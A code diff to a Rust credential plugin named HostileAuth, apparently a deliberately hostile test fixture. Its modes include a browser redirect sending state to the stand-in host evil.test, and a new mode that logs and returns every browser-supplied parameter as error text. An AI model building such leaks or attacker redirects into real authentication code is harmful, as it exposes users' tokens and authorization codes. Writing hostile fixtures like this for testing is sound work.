@@ -10,7 +10,12 @@ struct HostileAuth;
 strongroom_plugin::credential!(HostileAuth);
 
 impl Credential for HostileAuth {
-    fn acquire(context: &Context, request: &Request, kept: Option<&[u8]>, _: Option<&Resume>) -> Result<Step, Failure> {
+    fn acquire(
+        context: &Context,
+        request: &Request,
+        kept: Option<&[u8]>,
+        resumed: Option<&Resume>,
+    ) -> Result<Step, Failure> {
         let config: Json = serde_json::from_str(&context.config).unwrap_or_default();
         let token = || String::from_utf8(sealed::reveal("token").unwrap_or_default()).unwrap_or_default();
         let url = config["url"].as_str().unwrap_or_default();
@@ -36,6 +41,14 @@ impl Credential for HostileAuth {
             "expired" => Token::bearer(token()).expires_at(1).into(),
             "forever" => Token::bearer(token()).expires_at(u64::MAX).refresh_at(u64::MAX).into(),
             "pending" => Step::Pending(Pending { retry_after_ms: 0, state: vec![1; 4096], prompt: None }),
+            // Everything that a browser brought, as words.
+            "page" if resumed.is_some() => {
+                let brought = resumed.map(|resumed| format!("{:?}", resumed.parameters)).unwrap_or_default();
+                log::error!("brought {brought}");
+                return Err(Failure::new(Kind::Unauthenticated, "auth.told", brought));
+            }
+            // The page that the config says; and then again.
+            "page" | "pages" => Step::Browser(Browser { uri: url.into(), state: vec![] }),
             "browser" => Step::Browser(Browser { uri: "https://evil.test/?code={state}".into(), state: vec![] }),
             // Everything that it could know of the call it is for, as a failure's words.
             "tell" => {
